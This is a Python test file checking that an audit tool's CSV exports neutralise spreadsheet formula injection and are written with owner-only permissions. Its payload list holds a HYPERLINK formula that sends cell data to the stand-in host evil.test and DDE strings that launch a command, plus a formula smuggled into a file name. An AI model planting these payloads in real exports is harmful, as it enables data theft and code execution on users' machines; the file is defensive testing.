"""The audit's outputs as an attacker would use them: chart text that a spreadsheet runs as a
formula (CSV injection) and files other users of the machine could read."""

from __future__ import annotations

import csv
import stat

import orjson
import pytest

from plugin.batch.audit import run_audit
from plugin.batch.outputs import safe_cell, write_csv
from plugin.batch.synth import generate

FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-2.5", "+3", "-0", "Medicare Part B", "", 5, -1.5, None])
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_a_number_with_a_formula_tail_is_not_a_number():
    assert safe_cell("-1e3 ") == "'-1e3 "
    assert safe_cell("-inf") == "'-inf"


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_audit_neutralises_formulas_and_writes_private_files(tmp_path):
    source = tmp_path / "in"
    generate(source, visits=len(FORMULAS), defect_rate=0.0, seed=7)
    coverage = source / "Coverage.ndjson"
    lines = [orjson.loads(line) for line in coverage.read_bytes().splitlines()]
    for line, formula in zip(lines, FORMULAS, strict=True):
        line["payor"] = [{"display": formula}]
    coverage.write_bytes(b"\n".join(orjson.dumps(line) for line in lines) + b"\n")
    (source / "=1+2.ndjson").write_bytes(b"{not json\n")  # a file name lands in errors.csv
    out = tmp_path / "audit" / "out"
    result = run_audit(source, out, scheduler="sync", buckets=2, progress=False)
    assert result.visits == len(FORMULAS)

    with (out / "visits.csv").open(newline="") as fh:
        payers = sorted(r["payer"] for r in csv.DictReader(fh))
    # (a carriage return comes back from the audit's scratch files as a line feed)
    assert payers == sorted("'" + f.replace("\r", "\n") for f in FORMULAS)
    with (out / "errors.csv").open(newline="") as fh:
        assert [r["file"] for r in csv.DictReader(fh)] == ["'=1+2.ndjson"]
    for path in out.iterdir():
        if path.suffix == ".csv":  # no cell anywhere starts like a formula
            with path.open(newline="") as fh:
                for row in csv.reader(fh):
                    assert not [c for c in row if c.lstrip()[:1] in ("=", "+", "@")]
        assert mode(path) == 0o600, path.name
    assert mode(out) == 0o700
    assert sorted(p.name for p in out.iterdir()) == [
        "errors.csv",
        "findings.csv",
        "findings.parquet",
        "report.html",
        "visits.csv",
        "visits.parquet",
    ]


def test_an_existing_world_readable_output_is_narrowed(tmp_path):
    target = tmp_path / "errors.csv"
    target.write_text("old")
    target.chmod(0o644)
    write_csv(target, ("file", "problem"), [{"file": "=cmd", "problem": "@x"}])
    assert mode(target) == 0o600
    assert target.read_text().splitlines()[1] == "'=cmd,'@x"
